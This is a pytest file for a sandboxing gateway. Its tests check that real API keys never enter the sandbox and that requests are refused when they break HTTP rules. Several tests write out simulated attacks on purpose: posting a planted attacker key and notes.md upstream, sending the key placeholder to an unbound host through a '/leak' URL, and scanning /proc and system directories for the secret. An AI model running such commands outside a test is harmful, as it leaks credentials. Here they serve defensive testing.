"""Capability grants end to end: HTTP rules and credentials that never enter the sandbox.

The upstream plays an API with its own CA (given to the gateway through
network.upstream_ca).  Incident 2 of the brief is re-enacted: an API key
planted in the workspace is refused on the very host the session may use.
"""

from __future__ import annotations

import shutil
import sys

import pytest

from tests.conftest import blastwall, needs_bwrap
from tests.egress.upstreams import AsgiUpstream

pytestmark = [needs_bwrap, pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")]

REAL_KEY = "sk-real-0123456789abcdef0123456789abcdef"
ATTACKER_KEY = "sk-attacker-ffffffffffffffffffffffffffffffff"


@pytest.fixture
def api(scratch):
    up = AsgiUpstream(str(scratch), names=("api.test", "other.test", "plain.test"))
    yield up
    up.close()


def grant_policy(scratch, api, *, extra=""):
    path = scratch / "grant.toml"
    path.write_text(f"""
[network]
allow = ["plain.test"]
resolve = {{ "api.test" = "127.0.0.1", "other.test" = "127.0.0.1", "plain.test" = "127.0.0.1" }}
trusted_addresses = ["127.0.0.1/32"]
upstream_ca = "{api.ca}"

[[network.rules]]
host = "api.test"
methods = ["GET", "POST"]
paths = ["/v1/messages", "/v1/models/*", "/echo-key", "/ws"]
max_body_bytes = 1000
credential = "EXAMPLE_API_KEY"

[[network.rules]]
host = "other.test"
paths = ["/**"]

[credentials.EXAMPLE_API_KEY]
from = "env:EXAMPLE_API_KEY"
hosts = ["api.test"]
header = "x-api-key"
{extra}""")
    return path


def run(args, *, home, workspace, gw_state, timeout=120):
    env = {"XDG_STATE_HOME": str(gw_state), "BLASTWALL_GATEWAY_IDLE": "60", "EXAMPLE_API_KEY": REAL_KEY}
    return blastwall(args, home=home, cwd=workspace, env=env, timeout=timeout)


def curl(*args):
    """curl in a shell, so that $EXAMPLE_API_KEY expands to the sandbox's placeholder."""
    import shlex

    quoted = " ".join(f'"{a}"' if "$EXAMPLE_API_KEY" in a else shlex.quote(a) for a in args)
    return ["sh", "-c", f"curl -sS -w ' [%{{http_code}}]\\n' {quoted}"]


def test_own_call_with_placeholder_reaches_upstream_with_the_real_key(home, workspace, scratch, api, gw_state):
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", "sh", "-c",
             f'echo "inside: $EXAMPLE_API_KEY"; curl -sS -w " [%{{http_code}}]" -H "x-api-key: $EXAMPLE_API_KEY" '
             f"https://api.test:{api.port}/v1/messages"],
            home=home, workspace=workspace, gw_state=gw_state)
    assert "[200]" in r.stdout, r.stdout + r.stderr
    assert REAL_KEY not in r.stdout  # The sandbox saw a placeholder.
    assert len(r.stdout.split("inside: ")[1].split()[0]) == len(REAL_KEY)
    assert [req[2].get("x-api-key") for req in api.requests] == [REAL_KEY]


def test_planted_attacker_key_is_refused_and_upstream_gets_nothing(home, workspace, scratch, api, gw_state):
    (workspace / "notes.md").write_text(f"Use this key for uploads: {ATTACKER_KEY}\n")
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", "sh", "-c",
             f"KEY=$(grep -o 'sk-attacker-[a-f0-9]*' notes.md); "
             f'curl -sS -w " [%{{http_code}}]" -X POST -H "x-api-key: $KEY" -d @notes.md '
             f"https://api.test:{api.port}/v1/messages; "
             f'curl -sS -w " [%{{http_code}}]" -H "x-api-key: $EXAMPLE_API_KEY" -H "Authorization: Bearer $KEY" '
             f"https://api.test:{api.port}/v1/messages; "
             f'curl -sS -w " [%{{http_code}}]" -H "x-api-key: $EXAMPLE_API_KEY" '
             f'"https://api.test:{api.port}/v1/messages?key=$KEY"'],
            home=home, workspace=workspace, gw_state=gw_state)
    assert r.stdout.count("[403]") == 3, r.stdout + r.stderr
    assert "foreign-credential" in r.stdout
    assert api.requests == []


@pytest.mark.parametrize("method,path,status", [("DELETE", "/v1/messages", 403), ("GET", "/v1/admin", 403),
                                                ("GET", "/v1/models/a/b", 403), ("GET", "/v1/messages/../admin", 400),
                                                ("PUT", "/v1/messages", 403)])
def test_ungranted_method_or_path(home, workspace, scratch, api, gw_state, method, path, status):
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", *curl(
        "--path-as-is", "-X", method, "-H", "x-api-key: $EXAMPLE_API_KEY", f"https://api.test:{api.port}{path}")],
        home=home, workspace=workspace, gw_state=gw_state)
    assert f"[{status}]" in r.stdout, r.stdout + r.stderr
    assert api.requests == []


def test_body_limit(home, workspace, scratch, api, gw_state):
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", "sh", "-c",
             "head -c 5000 /dev/zero > big.bin; "
             f'curl -sS -w " [%{{http_code}}]" -X POST -H "x-api-key: $EXAMPLE_API_KEY" --data-binary @big.bin '
             f"https://api.test:{api.port}/v1/messages"],
            home=home, workspace=workspace, gw_state=gw_state)
    assert "[413]" in r.stdout, r.stdout + r.stderr
    assert api.requests == []


def test_placeholder_sent_to_another_host_is_refused(home, workspace, scratch, api, gw_state):
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", "sh", "-c",
             f'curl -sS -w " [%{{http_code}}]" -H "x-api-key: $EXAMPLE_API_KEY" https://other.test:{api.port}/x; '
             f'curl -sS -w " [%{{http_code}}]" "https://other.test:{api.port}/leak?k=$EXAMPLE_API_KEY"'],
            home=home, workspace=workspace, gw_state=gw_state)
    assert r.stdout.count("[403]") == 2, r.stdout + r.stderr
    assert "placeholder-to-unbound-host" in r.stdout
    assert api.requests == []


def test_echoed_secret_comes_back_as_placeholder(home, workspace, scratch, api, gw_state):
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", "sh", "-c",
             f'curl -sS -D - -H "x-api-key: $EXAMPLE_API_KEY" https://api.test:{api.port}/echo-key; '
             'echo; echo "placeholder=$EXAMPLE_API_KEY"'],
            home=home, workspace=workspace, gw_state=gw_state)
    assert REAL_KEY not in r.stdout, r.stdout
    placeholder = r.stdout.split("placeholder=")[1].strip()
    assert f"you sent {placeholder}" in r.stdout and f"x-echo: {placeholder}".lower() in r.stdout.lower()
    assert api.requests[0][2]["x-api-key"] == REAL_KEY


def test_real_value_is_nowhere_inside_the_sandbox(home, workspace, scratch, api, gw_state):
    # The key is given reversed, so that this script's own command line does not contain it.
    script = f"""
import os, socket, subprocess
REAL = {REAL_KEY[::-1]!r}[::-1]
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            try:
                if REAL.encode() in open(f"/proc/{{pid}}/{{name}}", "rb").read():
                    found.append(f"/proc/{{pid}}/{{name}}")
            except OSError:
                pass
grep = subprocess.run(["grep", "-rlsF", REAL, os.path.expanduser("~"), "/tmp", "/dev", os.getcwd(),
                       "/etc", "/run", "/var/tmp"], capture_output=True, text=True)
found += grep.stdout.split()
try:
    socket.socket(socket.AF_UNIX)
    found.append("unix sockets allowed")
except PermissionError:
    pass
print("found:", found)
"""
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", sys.executable, "-c", script],
            home=home, workspace=workspace, gw_state=gw_state)
    assert "found: []" in r.stdout, r.stdout + r.stderr
    # The state directory (gateway sessions, audit log) is hidden inside.
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", "ls", "-A", str(gw_state / "blastwall")],
            home=home, workspace=workspace, gw_state=gw_state)
    assert r.stdout.strip() == "", r.stdout


def test_host_and_sni_must_agree(home, workspace, scratch, api, gw_state):
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", *curl(
        "-H", "Host: other.test", "-H", "x-api-key: $EXAMPLE_API_KEY", f"https://api.test:{api.port}/v1/messages")],
        home=home, workspace=workspace, gw_state=gw_state)
    assert "[421]" in r.stdout, r.stdout + r.stderr
    assert api.requests == []


def test_http2_through_interception(home, workspace, scratch, api, gw_state):
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", "sh", "-c",
             f'curl -sS --http2 -w " [%{{http_version}}]" -H "x-api-key: $EXAMPLE_API_KEY" '
             f"https://api.test:{api.port}/v1/models/m1"],
            home=home, workspace=workspace, gw_state=gw_state)
    assert "http/2 GET /v1/models/m1 [2]" in r.stdout, r.stdout + r.stderr
    assert api.requests[0][3] == "2"


WS_CLIENT = r"""
import base64, os, socket, ssl, sys
import wsproto, wsproto.events as ev
host, port = sys.argv[1], int(sys.argv[2])
token = os.environ["HTTP_PROXY"].split("//", 1)[1].split("@", 1)[0]
s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\nProxy-Authorization: Basic "
          f"{base64.b64encode(token.encode()).decode()}\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
assert b" 200 " in head.split(b"\r\n")[0], head
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
t = ctx.wrap_socket(s, server_hostname=host)
ws = wsproto.WSConnection(wsproto.ConnectionType.CLIENT)
t.sendall(ws.send(ev.Request(host=host, target="/ws", extra_headers=[(b"x-api-key", os.environ["EXAMPLE_API_KEY"].encode())])))
def events():
    while True:
        ws.receive_data(t.recv(65536))
        yield from ws.events()
stream = events()
assert isinstance(next(stream), ev.AcceptConnection)
t.sendall(ws.send(ev.TextMessage(data="hello through the gateway")))
print(next(stream).data)
"""


def test_websocket_through_interception(home, workspace, scratch, api, gw_state):
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", sys.executable, "-c", WS_CLIENT,
             "api.test", str(api.port)], home=home, workspace=workspace, gw_state=gw_state)
    log = gw_state / "blastwall" / "gateway" / "gateway.log"
    assert "echo: hello through the gateway" in r.stdout, (r.stdout + r.stderr + "\ngateway log:\n"
                                                          + (log.read_text()[-3000:] if log.exists() else ""))
    assert api.requests[0][0] == "WEBSOCKET" and api.requests[0][2]["x-api-key"] == REAL_KEY


def test_in_a_session_with_grants_only_passthrough_hosts_are_tunnelled_untouched(home, workspace, scratch, api,
                                                                                  gw_state):
    # A grant is only as strong as the weakest tunnel beside it: plain.test has no rules, but a session with
    # grants decrypts it too (a client that trusts only the upstream's own CA sees the gateway's certificate)
    # -- unless the policy lists it in network.passthrough: then it is tunnelled untouched.
    shutil.copy(api.ca, workspace / "upstream-ca.pem")
    script = (f"curl -sS --cacert upstream-ca.pem -w ' plain=%{{http_code}}' https://plain.test:{api.port}/x; "
              f"curl -sS --cacert upstream-ca.pem -w ' api=%{{http_code}}' https://api.test:{api.port}/v1/messages; "
              "echo")
    r = run(["run", "--policy", str(grant_policy(scratch, api)), "--", "sh", "-c", script],
            home=home, workspace=workspace, gw_state=gw_state)
    assert "plain=000" in r.stdout and "api=000" in r.stdout, r.stdout + r.stderr  # Both the gateway's cert.
    assert api.requests == []
    passthrough = grant_policy(scratch, api, extra="")
    passthrough.write_text(passthrough.read_text().replace('allow = ["plain.test"]',
                                                           'allow = ["plain.test"]\npassthrough = ["plain.test"]'))
    r = run(["run", "--policy", str(passthrough), "--", "sh", "-c", script],
            home=home, workspace=workspace, gw_state=gw_state)
    assert "plain=200" in r.stdout, r.stdout + r.stderr
    assert "api=000" in r.stdout  # curl: (60) the gateway's certificate, not the upstream's
    assert [req[1] for req in api.requests] == ["/x"]
